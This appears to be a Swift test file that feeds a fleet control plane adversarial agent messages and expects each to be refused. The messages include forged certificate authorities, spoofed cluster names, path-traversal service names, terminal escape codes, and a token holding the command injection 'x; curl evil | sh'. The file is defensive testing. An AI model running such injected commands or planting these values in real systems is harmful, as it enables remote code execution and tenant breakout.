import BlueprintCoding
import FleetProtos
import Foundation
import GRPCCore
import Identity
import Storage
import SwiftProtobuf
import TestSupport
import X509

extension Attempt {
  /// As the agent of `east`, in its greeting: about itself, and about whose names it may give.
  static let inGreeting: [Attempt] = [
    .stream("greeting as another cluster", "claims to be another") { stage in
      try await stage.greet { $0.cluster = "west" }
    },
    .stream("greeting as itself in capitals", "claims to be another") { stage in
      try await stage.greet { $0.cluster = "EAST" }
    },
    .stream("greeting as nobody", "claims to be another") { stage in
      try await stage.greet { $0.cluster = "" }
    },
    .stream("no authority", "one to four authorities") { stage in
      try await stage.greet { $0.authorities = [] }
    },
    .stream("five authorities", "one to four authorities") { stage in
      try await stage.greet {
        $0.authorities = Array(repeating: Data(stage.east.certificate), count: 5)
      }
    },
    .stream("an authority that is no certificate", "cannot be read") { stage in
      try await stage.greet { $0.authorities = [Data([0x30, 0x00])] }
    },
    .stream("the authority of another cluster", "permits something else") { stage in
      try await stage.greet { $0.authorities = [Data(stage.west.certificate)] }
    },
    .stream("the authority of another cluster behind its own", "permits something else") { stage in
      try await stage.greet { $0.authorities.append(Data(stage.west.certificate)) }
    },
    .authority("an authority for every name", "no name constraint", nil),
    .authority(
      "an authority whose constraint is not critical", "not critical", east, critical: false),
    .authority(
      "an authority for another trust domain", "permits something else",
      NameConstraints(permittedURIDomains: ["west.acme.mesh"])),
    .authority(
      "an authority for two trust domains", "permits something else",
      NameConstraints(permittedURIDomains: ["east.acme.mesh", "west.acme.mesh"])),
    .authority(
      "an authority for all below", "permits something else",
      NameConstraints(permittedURIDomains: [".acme.mesh"])),
    .authority(
      "an authority that excludes instead of permitting", "permits something else",
      NameConstraints(forbiddenURIDomains: ["north.acme.mesh"])),
    .authority("an authority for authorities", "path length", east, pathLength: 1),
    .stream("a leaf for an authority", "not a certificate authority") { stage in
      let chain = try Forger(authority: stage.east, uris: [Stage.eastAgent]).chain()
      try await stage.greet { $0.authorities = [Data(chain[0])] }
    },
    .stream("a schema of yesterday", "update the agent") { stage in
      try await stage.greet { $0.schema = ItemCoding.schema - 1 }
    },
    .stream("a negative generation", "malformed") { stage in
      try await stage.greet { $0.generation = -1 }
    },
    .stream("a generation at the end of numbers", "malformed") { stage in
      try await stage.greet { $0.generation = .max }
    },
    .stream("an epoch as long as a novel", "malformed") { stage in
      try await stage.greet { $0.epoch = String(repeating: "x", count: 65) }
    },
    Attempt(
      "an agent of a deleted cluster", .permissionDenied, "stream.refused", "does not exist"
    ) { stage in
      try await stage.dialler.connected(stage.fixture.agent("north")) { line in
        try line.greet("north")
        _ = try await line.next()
      }
    },
  ]

  private static let east = NameConstraints(permittedURIDomains: ["east.acme.mesh"])

  private static func authority(
    _ name: String, _ reason: String, _ constraint: NameConstraints?, critical: Bool = true,
    pathLength: Int? = 0
  ) -> Attempt {
    .stream(name, reason) { stage in
      let authority = try Forger.authority(
        key: PrivateKey(), constraint: constraint, critical: critical, pathLength: pathLength)
      try await stage.greet { $0.authorities = [Data(authority)] }
    }
  }

  /// As the agent of `east`, after an honest greeting.
  static let onTheStream: [Attempt] = [
    .stream("no greeting", "no greeting") { stage in
      try await stage.dialler.connected(stage.fixture.agent()) { line in
        line.send(.inventory(.with { $0.full = true }))
        while try await line.next() != nil {}
      }
    },
    .stream("a second greeting, as another cluster", "second greeting") { stage in
      try await stage.say(.hello(.with { $0.cluster = "west" }))
    },
    .stream("a message without content", "an empty message") { stage in
      try await stage.send(bytes: [])
    },
    .stream("bytes that are no message", "deserialize") { stage in
      try await stage.send(bytes: [0xff, 0xff, 0xff, 0xff])
    },
    // The transport ends the stream before there is a status.
    Attempt("a message above the limit", .unavailable, "stream.refused", "decode") { stage in
      try await stage.send(bytes: Array(repeating: 0, count: (8 << 20) + 1))
    },
    .stream("an acknowledgement of what was never sent", "never sent") { stage in
      try await stage.say(
        .acknowledgement(
          .with {
            $0.epoch = stage.fixture.store.epoch; $0.generation = 1000
          }))
    },
    .stream("a negative acknowledgement", "negative") { stage in
      try await stage.say(
        .acknowledgement(
          .with {
            $0.epoch = stage.fixture.store.epoch; $0.generation = -1
          }))
    },
    .stream("a report about a generation that is not", "does not exist") { stage in
      try await stage.say(
        .propagation(
          .with {
            $0.epoch = stage.fixture.store.epoch; $0.generation = 1000
          }))
    },
    .stream("a report with a negative count", "negative") { stage in
      try await stage.say(
        .propagation(
          .with {
            $0.epoch = stage.fixture.store.epoch; $0.told = -1
          }))
    },
    .inventory("a difference to nothing", "not complete") { $0.full = false },
    .inventory("a service of another cluster, by its path", "not made of labels") {
      $0.upserts = [Stage.service("../west/orders")]
    },
    .inventory("a service in another cluster's namespace, by a slash", "not made of labels") {
      var service = Stage.service("orders")
      service.key.namespace = "west/shop"
      $0.upserts = [service]
    },
    .inventory("the copy of a service in another cluster", "not made of labels") {
      var service = Stage.service("orders")
      service.key.namespace = "shop.at.west"
      $0.upserts = [service]
    },
    .inventory("a service without a name", "not made of labels") {
      $0.upserts = [Stage.service("")]
    },
    .inventory("a service whose name ends a line", "not made of labels") {
      $0.upserts = [Stage.service("orders\n")]
    },
    .inventory("the removal of a service by its path", "not made of labels") {
      $0.removals = [
        .with {
          $0.namespace = "shop"; $0.name = "../../west/orders"
        }
      ]
    },
    .inventory("a port that is none", "is not one") {
      $0.upserts = [Stage.service("orders", port: 70_000)]
    },
    .inventory("an identity of another trust domain", "exceeds the limits") {
      var service = Stage.service("orders")
      service.serviceAccounts = ["spiffe://west.acme.mesh/ns/shop/sa/orders"]
      $0.upserts = [service]
    },
    .inventory("fewer workloads than none", "exceeds the limits") {
      var service = Stage.service("orders")
      service.healthyWorkloads = -1
      $0.upserts = [service]
    },
    .inventory("more services than there is room for", "more than 30000") {
      $0.upserts = (0...30_000).map { Stage.service("s\($0)") }
    },
    .proxies("a proxy without a name", "no node id") { $0.upserts = [Stage.proxy("")] },
    .proxies("a proxy whose name speaks to the terminal", "cannot be shown") {
      $0.upserts = [Stage.proxy("orders\u{1b}[2J")]
    },
    .proxies("a proxy on a host with a name of a megabyte", "too long") {
      var proxy = Stage.proxy("orders")
      proxy.hostName = String(repeating: "x", count: 1 << 20)
      $0.upserts = [proxy]
    },
    .proxies("a difference to no proxies", "not complete") {
      $0.full = false
      $0.removals = ["orders-1"]
    },
    .stream("a rejection of what is no item", "names no item") { stage in
      try await stage.say(
        .rejections(
          .with {
            $0.full = true; $0.upserts = [.with { $0.key = "clusters/west" }]
          }))
    },
    .stream("an inspection that is no JSON", "not JSON") { stage in
      try await stage.say(
        .inspectAnswer(
          .with {
            $0.id = 1; $0.json = Data("<script>".utf8)
          }))
    },
    .stream("a token that is a command", "no token") { stage in
      try await stage.say(
        .tokenAnswer(
          .with {
            $0.id = 1; $0.token = "x; curl evil | sh"
          }))
    },
    .stream("a token for another cluster", "no token") { stage in
      let token = JoinToken.Workload(
        id: "1", secret: JoinToken.newSecret(), cluster: "west", trustDomain: "west.acme.mesh",
        pin: stage.west.publicKeyHash)
      let text = JoinToken.workload(token).text
      try await stage.say(
        .tokenAnswer(
          .with {
            $0.id = 1; $0.token = text
          }))
    },
    Attempt(
      "a second stream with the same certificate", .alreadyExists, "agent.duplicate",
      "is connected"
    ) { stage in
      let credentials = try stage.fixture.agent()
      try await stage.dialler.connected(credentials) { line in
        try line.greet(authorities: [stage.east.certificate])
        _ = try await line.welcome()
        try await stage.dialler.connected(credentials) { clone in
          try clone.greet(authorities: [stage.east.certificate])
          while try await clone.next() != nil {}
        }
      }
    },
  ]

  private static func inventory(
    _ name: String, _ reason: String,
    _ change: @escaping @Sendable (inout Rialto_Fleet_V1_InventoryDelta) -> Void
  ) -> Attempt {
    .stream(name, reason) { stage in
      var delta = Rialto_Fleet_V1_InventoryDelta.with { $0.full = true }
      change(&delta)
      try await stage.say(.inventory(delta))
    }
  }

  private static func proxies(
    _ name: String, _ reason: String,
    _ change: @escaping @Sendable (inout Rialto_Fleet_V1_ProxyStatusDelta) -> Void
  ) -> Attempt {
    .stream(name, reason) { stage in
      var delta = Rialto_Fleet_V1_ProxyStatusDelta.with { $0.full = true }
      change(&delta)
      try await stage.say(.proxies(delta))
    }
  }
}
